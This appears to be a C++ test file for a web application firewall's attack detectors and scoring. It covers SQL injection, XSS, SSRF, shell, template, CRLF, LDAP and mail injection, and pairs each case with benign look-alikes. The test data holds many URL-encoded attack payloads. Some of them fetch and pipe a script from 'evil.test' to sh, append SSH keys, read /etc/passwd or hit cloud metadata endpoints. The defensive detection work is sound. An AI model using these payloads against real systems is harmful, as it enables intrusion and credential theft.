    EXPECT_TRUE(clean(form("x=" + chain)));
  }
  for (const char* name : {"ctl00%24Main%24wizard%24userNameBox",
                           "ctl00%24ContentPlaceHolder1%24GridView1%24ctl02%24btnEdit",
                           "ctl00%24m%24g_1234%24ctl00%24ctl01%24txtSearch"}) {
    EXPECT_TRUE(clean(form(std::string(name) + "=hello"))) << name;
  }
  EXPECT_TRUE(clean(json(R"({"md":"```bash\nmake test\n```"})")));
  EXPECT_TRUE(clean(json(
      R"({"md":"# Install\n\n> **Note:** needs root.\n\n* Run `make && ./a.out` or:\n\n```sh\ncurl -s https://example.com/install.sh | sh\n```\n"})")));
  // Outside the quotes a heading mark only starts a line; a command there still counts.
  EXPECT_FALSE(clean(json(R"({"md":"x # `ls`; cat /etc/passwd > /tmp/x"})")));
  EXPECT_TRUE(clean(json(R"({"note":"run `docker compose up -d` then `npm install --save x`"})")));
}

TEST_F(DetectorsTest, XssTechniqueShapes) {
  for (const char* q :
       {"(!%5B%5D%2B%5B%5D)%5B1%5D", "x%3D!!%5B%5D", "%5B%5D.map.call%60x%60",
        "(window)%5B%22alert%22%5D(1)", "top%5B%22%5Cx61%22%5D", "jav%26tab%3Bascript%3Aalert(1)",
        "%5Cu0061%5Cu006c%5Cu0065%5Cu0072t(1)", "%3Cmeta%20http-equiv%3Drefresh",
        "%3Clink%20rel%3Dimport%20href%3D//e.test", "%3Cnoscript%3E", "%3Cs%20v%20g%20x%3E"}) {
    EXPECT_TRUE(detects(query(q), AttackClass::Xss)) << q;
  }
  for (const char* q : {"a+%3C+b+and+c", "metadata+of+the+link", "the+(window)+seat",
                        "caf%C3%A9+%5Cu00e9", "x+%3C+y+%3C+z", "%C2%BC+cup+sugar+%C2%BE+flour"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
}

TEST_F(DetectorsTest, CodeInjectionTechniqueShapes) {
  for (const char* q :
       {"system%2F*x*%2F(%27id%27)", "passthru%20%23c%0A(%27id%27)", "(exec)(%27ls%27)",
        "%5Bpassthru%5D%5B0%5D(%27id%27)", "%24x%5B%24y%5B0%5D%5D(1)", "%3C%3F%20php%20phpinfo()",
        "%5B%2Fphp%5D", "while(x)%3B", "process.spawn(%27sh%27)", "%24%7B%27abc%27%7D",
        "%24%7B%40f%7D(2)", "%24O0%7B1%7D(3)", "pfsockopen(%27h%27,80)"}) {
    EXPECT_TRUE(detects(query(q), AttackClass::CodeInjection)) << q;
  }
  // Node reflection is in every JavaScript stack trace a telemetry beacon sends: a probe (PL2)
  // unless the whole value is one expression calling or indexing the global (see
  // NodeGlobalExpressionAsTheWholeValue).
  for (const char* q : {"process%5Benv%5D", "x%3Dconsole.warn(1)", "module.exports%3D1"}) {
    EXPECT_FALSE(inspect(query(q)).attack()) << q;
    EXPECT_TRUE(detects(atPl2(query(q)), AttackClass::CodeInjection)) << q;
  }
  for (const char* q : {"while+you+wait%3B", "system+update+(beta)", "the+%24+sign", "%24%20%7B%20%7D",
                        "console+table+for+sale", "process+improvement"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
}

TEST_F(DetectorsTest, SsrfTechniqueShapes) {
  for (const char* q :
       {"https%3A%2F%2F0x7f000001%2F", "gopher%3A10.0.0.8%3A70",
        "http%3A%2F%2F0177.00.00.01%2F", "http%3A%2F%2F%5Bfe80%3A%3A1%5D%2F",
        "http%3A%2F%2Fa.test%255c%40evil.test%2F", "http%3A%2F%2Fu%40a.test%40evil.test%2F",
        "http%3A%2F%2F127%E3%80%820%E3%80%820%E3%80%821%2F", "db.svc.cluster.local%2F",
        "api.docker.internal%3A8080"}) {
    EXPECT_TRUE(detects(query(q), AttackClass::Ssrf)) << q;
  }
  // A numeric host alone is a probe (PL2): firewall rules and telemetry carry them.
  EXPECT_TRUE(detects(atPl2(query("http%3A2130706433")), AttackClass::Ssrf));
  for (const char* q : {"https%3A%2F%2Fexample.org%2F%40user%2Fpost", "call+me+at+5551234567",
                        "mailto%3Abob%40example.org", "https%3A%2F%2Fshop.example.com%3A8443%2Fcart"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
}

TEST_F(DetectorsTest, TemplateCrlfProcfsShapes) {
  // Template control tags alone are probes (PL2): documentation carries them.
  EXPECT_TRUE(detects(atPl2(query("%7B%25%20for%20c%20in%20x%20%25%7D1%7B%25%20endfor%20%25%7D")),
                      AttackClass::Ssti));
  EXPECT_TRUE(detects(atPl2(query("%3C%25%20while%20true%20%25%3E")), AttackClass::Ssti));
  EXPECT_TRUE(detects(query("a%0D%0AX-Forwarded-For%3A%2010.0.0.1"), AttackClass::Crlf));
  EXPECT_TRUE(detects(header("Cookie", "s=1%0d%0a%0d%0a<html><body>x"), AttackClass::Crlf));
  EXPECT_TRUE(detects(query("/proc/sys/net/ipv4/ip_forward"), AttackClass::PathTraversal));
  EXPECT_TRUE(detects(query("../../sys/kernel/notes"), AttackClass::PathTraversal));
  for (const char* q : {"save+20%25+if+you+buy+for+50%25+off", "100%25+for+sure%7D",
                        "%2Fsystem%2Fclasses%2Fintro", "Notes%3A%0D%0AHost+list%3A+all"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
}

TEST_F(DetectorsTest, PathSegmentsAreParameters) {
  const auto path = [](std::string p) { return Req{"GET", std::move(p), {}, ""}; };
  // A route parameter or matrix parameter carrying an injection in its own language.
  EXPECT_TRUE(inspect(path("/shop/items/7%27%20or%20%27x%27%3D%27x/view")).attack());
  EXPECT_TRUE(inspect(path("/files/report%3Bcurl%20-s%20evil.test%7Csh/raw")).attack());
  EXPECT_TRUE(inspect(path("/users/u%2A%29%28%7C%28sn%3D%2A%29/profile")).attack());
  EXPECT_TRUE(inspect(path("/docs/en%27%20union%20select%20pass%20from%20u--/toc")).attack());
  EXPECT_TRUE(inspect(path("/img/%7B%7Bcycler.__init__.__globals__.os%7D%7D/x.png")).attack());
  // A URL embedded in the path, in the scheme://host form a fetching proxy reads.
  EXPECT_TRUE(inspect(path("/fetch/http://10.1.2.3:8500/v1/agent/self")).attack());
  EXPECT_TRUE(inspect(path("/thumb/gopher%3A%2F%2F127.0.0.1%3A11211%2F_stats/100")).attack());
  // Benign twins: ordinary slugs, dates, e-mail addresses, matrix parameters, public URLs.
  for (const char* p : {"/blog/2024-05-01T10:00:00Z/comments", "/users/jane.doe@example.org/keys",
                        "/catalog;jsessionid=A1B2C3/shoes;color=red", "/tags/c%2B%2B,rust/list",
                        "/share/https://www.example.org/post/12", "/wiki/Fish_%26_Chips_(dish)",
                        "/search/rock%20%26%20roll/page/2", "/api/v2/items/(id:42)/edit"}) {
    EXPECT_FALSE(inspect(path(p)).attack()) << p;
  }
}

TEST_F(DetectorsTest, UserAgentOutsideTheProductGrammar) {
  // A User-Agent that is no product list is a value a log pipeline or link previewer may fetch.
  EXPECT_TRUE(inspect(header("User-Agent", "http://169.254.169.254/computeMetadata/v1/")).attack());
  EXPECT_TRUE(inspect(header("User-Agent", "gopher://localhost:6379/_INFO")).attack());
  // Crawler User-Agents name their info page, some on private hosts in test labs.
  for (const char* ua : {"Mozilla/5.0 (compatible; ExampleBot/2.1; +http://www.example.com/bot)",
                         "monitor/1.0 (+http://10.0.0.5/status)", "curl/8.4.0"}) {
    EXPECT_FALSE(inspect(header("User-Agent", ua)).attack()) << ua;
  }
}

TEST_F(DetectorsTest, ShellValueOpeningWithASeparator) {
  // A value that opens by ending the application's command, then a command and a separator.
  EXPECT_TRUE(detects(query("%3Bw%7C"), AttackClass::Rce));
  EXPECT_TRUE(detects(query("%7Cps%7C"), AttackClass::Rce));
  EXPECT_TRUE(detects(query("%26%26ls%26%26"), AttackClass::Rce));
  // Words listed with separators inside a value are not a command line.
  for (const char* q : {"red%7Cps%7Cblue", "a%3Bcat%3Bb", "%7C%20Header%20%7C", "%3B-)"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
}

TEST_F(DetectorsTest, ShellEscapedLineBreaksAndCommandLists) {
  // A C-style "\n" ending a command word (a layer that unescapes strings writes a line break).
  EXPECT_TRUE(inspect(query("%3Bid%5Cn")).attack());
  EXPECT_TRUE(inspect(json(R"({"a":"|id\\r\\n"})")).attack());
  // A ';' list in which every part is a known command and one reads a path.
  EXPECT_TRUE(inspect(form("code=cd+%2F%3Bcd+etc%3Bcolumn+passwd")).attack());
  EXPECT_TRUE(inspect(form("code=CD+%2F%3BCD+ETC%3BCOMM+PASSWD+PASSWD")).attack());
  // Benign twins: an escape inside a word or a Windows path, lists with a word that is not a
  // command, two commands (a probe).
  for (const char* q : {"C%3A%5Cnew%5Cfile", "a%3Bb%5Cn", "line%201%5Cnline%202",
                        "cd%20%2Ftmp%3B%20ls%3B%20make", "cd%20%2F%3Bcd%20etc",
                        "red%3Bgreen%3Bblue"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
}

TEST_F(DetectorsTest, ShellListsRedirectionsAndIfs) {
  // '&&' / '||' join commands; a redirection to a file path; $IFS as a blank.
  for (const char* q : {"a%26%26echo%20vulnerable", "x%20%7C%7C%20ps%20aux",
                        "%3B%20echo%20%27x%27%20%3E%20%2Fvar%2Fwww%2Fhtml%2Fx.php",
                        "1%3Bcat%20k%20%3E%3E%20~%2F.ssh%2Fauthorized_keys",
                        "%3Becho%24%7BIFS%7Dtest", "%26%26%20dir%20C%3A%5CUsers"}) {
    EXPECT_TRUE(detects(query(q), AttackClass::Rce)) << q;
  }
  // Benign twins: the operators between words that are no commands, a comparison, a price.
  for (const char* q : {"rock%20%26%26%20roll", "Q%26%26A", "a%20%7C%7C%20b", "x%20%3E%205",
                        "tom%3B%20echo%20dot%20speaker", "5%20%3E%203%3B%20true"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
}

TEST_F(DetectorsTest, ShellGlobbedBinaries) {
  // A globbed binary under a rooted path expands to a command: confirmed, so it counts even in
  // a Referer, where only confirmed injections do.
  EXPECT_TRUE(inspect(header("Referer", "www.example.com/?p=;/bin/ca?+/et*/passwd")).attack());
  EXPECT_TRUE(inspect(header("Referer", "https://a.example/?x=1;/%3F%3F%3F/%3F%3Ft+/%3F%3F%3F/p%3F%3Fs%3F%3F")).attack());
  EXPECT_TRUE(detects(query("%7C%2Fusr%2Fbin%2Fwho*"), AttackClass::Rce));
  // Benign twins: globs of documents and directories, no command behind them.
  for (const char* q : {"see%20%2Fdocs%2F*.md", "files%20in%20%2Ftmp%2F%3F%3F%20dirs",
                        "%2Fimages%2F2024-*.png"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
  EXPECT_FALSE(inspect(header("Referer", "https://a.example/docs/*/intro?lang=en")).attack());
}

TEST_F(DetectorsTest, MailCommandInjection) {
  // A line break, then an IMAP command line with its tag, or an SMTP envelope command.
  for (const char* q : {"INBOX%0d%0aA001%20LOGOUT", "x%0d%0aV100%20CAPABILITY%0d%0aV101%20FETCH%204791",
                        "x%0d%0aa5%20UID%20FETCH%201%3A*%20(FLAGS)",
                        "x%0d%0aa6%20STORE%201%20%2BFLAGS%20(%5CDeleted)",
                        "x%0d%0ab1%20LIST%20%22%22%20*", "a%40b.c%0d%0aRCPT%20TO%3A%3Cv%40x.org%3E"}) {
    EXPECT_TRUE(detects(query(q), AttackClass::Rce)) << q;
  }
  // Benign twins: numbered notes whose words are also IMAP commands.
  for (const char* q : {"Parts%3A%0aab12%20store%205%20units", "Steps%0aab2%20copy%205%20pages%20now",
                        "Step%201%0aA1%20close%20the%20lid", "Notes%0ab3%20list%20of%20items"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
}

TEST_F(DetectorsTest, NosqlOperatorAfterAStringBreakout) {
  EXPECT_TRUE(detects(query("x%22%2C%20%24where%3A%20%22sleep(100)"), AttackClass::Nosqli));
  EXPECT_TRUE(detects(query("%7C%7C%20%27a%27%3D%3D%27a"), AttackClass::Nosqli));
  for (const char* q : {"price%3A%20%2410%2C%20tax%3A%20%241", "a%20%7C%7C%20b",
                        "%22x%22%2C%20%22y%22"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
}

TEST_F(DetectorsTest, LdapWildcardProbesArePl2) {
  for (const char* q : {"root*%7C", "*%7C(", "*%7C", "%40*", "*)("}) {
    EXPECT_TRUE(detects(atPl2(query(q)), AttackClass::Ldapi)) << q;
    EXPECT_TRUE(clean(query(q))) << q; // a probe: not at PL1
  }
  for (const char* q : {"*", "*.png", "red%20shoe*", "a*b*c", "(optional)", "logs-*",
                        "release%2F*", "*%2F*"}) {
    EXPECT_FALSE(detects(atPl2(query(q)), AttackClass::Ldapi)) << q;
  }
}

TEST_F(DetectorsTest, TemplateEngineInternals) {
  EXPECT_TRUE(detects(query("%7B%24smarty.now%7D"), AttackClass::Ssti));
  EXPECT_TRUE(detects(query("%40(9-2)"), AttackClass::Ssti));
  for (const char* q : {"%7B%24price%7D", "mail%40(home)", "%40(2024)"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
}

} // namespace
} // namespace bulwark::detect

namespace bulwark::detect {
namespace {

// Scoring, paranoia levels and part-kind context (verdict.h, part_kind.h).
class ScoringTest : public ::testing::Test {
protected:
  static void SetUpTestSuite() {
    auto e = Engine::create(EngineConfig{});
    ASSERT_TRUE(e) << e.error().describe();
    engine_ = *e;
  }
  static void TearDownTestSuite() { engine_.reset(); }

  static Verdict run(std::string_view method, std::string_view target,
                     std::vector<Header> headers, std::string_view body, uint8_t pl = 1) {
    RequestView v;
    v.method = method;
    v.target = target;
    v.headers = headers;
    v.body = body;
    v.paranoiaLevel = pl;
    return registered(engine_->inspect(v));
  }

  static inline EnginePtr engine_;
};

TEST_F(ScoringTest, FindingsCarryConfidenceParanoiaAndPartKind) {
  const Verdict v = run("GET", "/search?q=1%27%20or%20%271%27%3D%271", {}, "");
  ASSERT_TRUE(v.attack());
  ASSERT_FALSE(v.findings.empty());
  const Finding& f = v.findings.front();
  EXPECT_EQ(f.cls, AttackClass::Sqli);
  EXPECT_EQ(f.kind, PartKind::QueryValue);
  EXPECT_EQ(f.confidence, Confidence::Confirmed);
  EXPECT_EQ(f.paranoia, 1);
  EXPECT_EQ(v.paranoiaLevel, 1);
  EXPECT_EQ(v.threshold, scoreThreshold(1));
  EXPECT_GE(v.score, v.threshold);
  EXPECT_EQ(partKindName(f.kind), "query");
  EXPECT_EQ(confidenceName(f.confidence), "confirmed");
}

TEST_F(ScoringTest, ProbesCountFromParanoiaLevelTwo) {
  // A value that is only a comparison: a scanner's probe, not an injection.
  for (uint8_t pl : {1, 2, 3, 4}) {
    const Verdict v = run("GET", "/search?q=7%3D7", {}, "", pl);
    EXPECT_EQ(v.attack(), pl >= 2) << "PL" << int(pl);
    EXPECT_EQ(v.threshold, scoreThreshold(pl));
    for (const auto& f : v.findings) {
      EXPECT_LE(f.paranoia, pl);
      EXPECT_EQ(f.confidence, Confidence::Probe);
    }
  }
  // Out-of-range levels are clamped.
  EXPECT_EQ(run("GET", "/", {}, "", 0).paranoiaLevel, 1);
  EXPECT_EQ(run("GET", "/", {}, "", 9).paranoiaLevel, 4);
}

TEST_F(ScoringTest, SsrfOnlyWhereAServerFetches) {
  // The page address of a self-hosted dashboard on a private IP is not a server-side fetch.
  const std::vector<Header> browser = {{"Referer", "http://10.20.30.40:3000/d/abc?orgId=1"},
                                       {"Origin", "http://192.168.1.20:9000"}};
  EXPECT_FALSE(run("GET", "/api/ds/query", browser, "", 4).attack());
  // The same URL in a parameter is.
  const Verdict v = run("GET", "/fetch?url=http%3A%2F%2F10.20.30.40%3A3000%2F", {}, "");
  ASSERT_TRUE(v.attack());
  EXPECT_EQ(v.findings.front().cls, AttackClass::Ssrf);
  EXPECT_TRUE(isUrlParameterName("redirect_uri"));
  EXPECT_TRUE(isUrlParameterName("data.callbackUrl"));
  EXPECT_FALSE(isUrlParameterName("name"));
}

TEST_F(ScoringTest, CrlfOnlyWhereItReachesAResponseHeader) {
  const std::vector<Header> json = {{"Content-Type", "application/json"}};
  // A beacon that carries a request-header dump: line breaks inside a JSON string are data.
  const std::string dump = R"({"headers":"Accept: */*\r\nX-Requested-With: fetch\r\nX-Id: 7"})";
  EXPECT_FALSE(run("POST", "/beacon", json, dump).attack());
  EXPECT_TRUE(run("POST", "/beacon", json, dump, 2).attack()); // a probe at PL2
  // The same break in a query value can reach a redirect's headers.
  EXPECT_TRUE(run("GET", "/go?to=x%0d%0aX-Id%3A%207", {}, "").attack());
  // Response splitting stays an attack anywhere.
  EXPECT_TRUE(
      run("POST", "/beacon", json, R"({"n":"x\r\nSet-Cookie: sid=evil"})").attack());
}

TEST_F(ScoringTest, LegendPlaceholdersAreNotTemplateInjection) {
  const std::vector<Header> json = {{"Content-Type", "application/json"}};
  EXPECT_FALSE(run("POST", "/api/ds/query", json,
                   R"({"queries":[{"legendFormat":"{{namespace}} / {{pod}}","expr":"up"}]})")
                   .attack());
  EXPECT_TRUE(run("GET", "/p?name=%7B%7B7*7%7D%7D", {}, "").attack());
}

TEST_F(ScoringTest, JsonInAParameterIsInspectedAsJson) {
  // A webhook delivered as payload=<json>: its strings are JSON strings (CR/LF is data) ...
  const std::vector<Header> form = {{"Content-Type", "application/x-www-form-urlencoded"}};
  EXPECT_FALSE(
      run("POST", "/hook", form, "payload=%7B%22diff%22%3A%22a%5Cr%5CnX-Id%3A%201%22%7D")
          .attack());
  // ... and an injection inside one of them is still found, named by its JSON path.
  const Verdict v =
      run("POST", "/hook", form, "payload=%7B%22q%22%3A%22x%27%20union%20select%201%2C2--%22%7D");
  ASSERT_TRUE(v.attack());
  EXPECT_EQ(v.findings.front().kind, PartKind::JsonString);
  EXPECT_EQ(v.findings.front().part.substr(0, 19), "body.form.json:payl");
}

TEST_F(DetectorsTest, SqlBreakoutIntoAnOpenGroupBeforeAComment) {
  // The attacker opens a group for the application's ")" and comments the rest out.
  for (const char* q : {"%27)%20or%20(%271%27%3D%271%27%20--", "x%27)%20and%20(1%3D1%20%23",
                        "%22))%20or%20((%22a%22%3D%22a%22%20--%20-"}) {
    EXPECT_TRUE(detects(query(q), AttackClass::Sqli)) << q;
  }
  // Benign twins: a parenthesised aside in prose with a quote and a dash; an open group with
  // no comparison inside.
  for (const char* q : {"it%27s)%20or%20(maybe%20not%20--%20who%20knows",
                        "(see%20the%20'notes')%20or%20(ask%20--",
                        "%27)%20or%20(the%20other%20one%20--"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
}

TEST_F(DetectorsTest, SqlBreakoutPastABackslashEscapedQuote) {
  // MySQL reads "\'" inside a string as a quote: the next quote closes the string.
  EXPECT_TRUE(detects(query("foo%5C%27%27or%27oof"), AttackClass::Sqli));
  EXPECT_TRUE(detects(query("x%5C%27%27%20or%201%3D1--%20"), AttackClass::Sqli));
  // SQLite's glob(x, y) written as a call after the breakout.
  EXPECT_TRUE(detects(query("admin%40shop.test%5C%27%20or%20glob(id%2Cid)%3B"), AttackClass::Sqli));
  // Benign twins: escaped quotes in text, a path with backslashes, a trailing dangling quote.
  for (const char* q : {"O%5C%27Brien%5C%27s%20pub", "C%3A%5CUsers%5C%27me%27%5Cdocs",
                        "newline%0A%5C%27%20and%201", "glob(%27*.txt%27)%20or%20not"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
}

TEST_F(DetectorsTest, NodeGlobalExpressionAsTheWholeValue) {
  for (const char* q : {"console.info(1)", "console%5B%22info%22%5D(1)", "process%5B%22env%22%5D",
                        "console.info.call(this%2C1)",
                        "require(%27child_process%27).execSync(%27id%27)%3B"}) {
    EXPECT_TRUE(detects(query(q), AttackClass::CodeInjection)) << q;
  }
  EXPECT_TRUE(detects(json(R"j({"expr": "console[\"log\"](process.pid)"})j"), AttackClass::CodeInjection));
  // Benign twins: a stack frame, a sentence naming the call, a member read, an open
  // assignment, a config key indexed by a name.
  for (const char* q : {"at%20console.log%20(app.js%3A3%3A9)", "use%20console.info(1)%20to%20debug",
                        "process.version", "module.exports%3D", "process%5Bstep%5D%3D2"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
  EXPECT_TRUE(clean(json(R"j({"stack": "TypeError: x is undefined\n    at console.error (node:internal/console:1:1)"})j")));
}

TEST_F(DetectorsTest, TemplateControlBlockWrittenOutWhole) {
  for (const char* q : {"%7B%25%20if%20True%20%25%7D49%7B%25%20endif%20%25%7D",
                        "%3C%25%3D%20if%20true%20%25%3E49%3C%25%20endif%20%25%3E",
                        "%7B%25-%20for%20x%20in%20range(3)%20-%25%7Dx%7B%25%20endfor%20%25%7D",
                        "%3C%25%20if%20user%20%25%3Ehi%3C%25%20end%20%25%3E"}) {
    EXPECT_TRUE(detects(query(q), AttackClass::Ssti)) << q;
  }
  // Benign twins: an opening tag alone, a tag named in a sentence, a block without an
  // expression; a whole block inside a JSON document (a CMS template) stays a probe.
  for (const char* q : {"%7B%25%20if%20x%20%25%7D", "use%20%7B%25%20raw%20%25%7D%20to%20escape",
                        "%7B%25%20if%20%25%7D%7B%25%20endif%20%25%7D"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
  EXPECT_TRUE(clean(json(R"j({"template": "{% if customer %}Hello {{ customer.first_name }}{% endif %}"})j")));
  EXPECT_TRUE(detects(atPl2(json(R"j({"template": "{% if customer %}Hi{% endif %}"})j")), AttackClass::Ssti));
}

TEST_F(DetectorsTest, QuoteInsideAMysqlExecutableCommentIsAProbe) {
  // MySQL runs what "/*!NNNNN ... */" holds: a lone quote there is an error probe (PL2).
  for (const char* q : {"1%2F*!1111%27*%2F", "x%2F*!50000%22*%2F"}) {
    EXPECT_FALSE(inspect(query(q)).attack()) << q;
    EXPECT_TRUE(detects(atPl2(query(q)), AttackClass::Sqli)) << q;
  }
  // Benign twins: a minified library's licence comment, the syntax named in a sentence.
  for (const char* q : {"%2F*!%20jQuery%20v3.7.1%20%27MIT%27%20*%2F",
                        "see%20%2F*!%27s%20docs%20for%20the%20MySQL%20comment%20syntax"}) {
    EXPECT_TRUE(clean(atPl2(query(q)))) << q;
  }
}

TEST_F(DetectorsTest, RemoteInclusionThroughAFileParameter) {
  // A remote file with a trailing '?' in a parameter the application includes from.
  for (const char* t : {"/page.php?file=http%3A%2F%2Fevil.example%2Fshell.txt%3F",
                        "/index.php?page=https://203.0.113.9/x/r57.php%3F%3F",
                        "/view?template=ftp://files.example/inc/boot.inc%3F"}) {
    EXPECT_TRUE(detects(Req{"GET", t, {}, ""}, AttackClass::Ssrf)) << t;
  }
  // Benign twins: a link parameter, a picture or page with an empty query, a URL without a
  // file name, the same value elsewhere (PL2 only).
  for (const char* t : {"/go?url=http%3A%2F%2Fevil.example%2Fshell.txt%3F",
                        "/p?file=https://cdn.example/img/cat.jpg%3F",
                        "/p?page=https://docs.example/guide/intro.html%3F",
                        "/p?page=https://docs.example/guide/%3F"}) {
    EXPECT_TRUE(clean(Req{"GET", t, {}, ""})) << t;
  }
  EXPECT_TRUE(detects(atPl2(Req{"GET", "/go?url=http%3A%2F%2Fevil.example%2Fshell.txt%3F", {}, ""}),
                      AttackClass::Ssrf));
}

} // namespace
} // namespace bulwark::detect
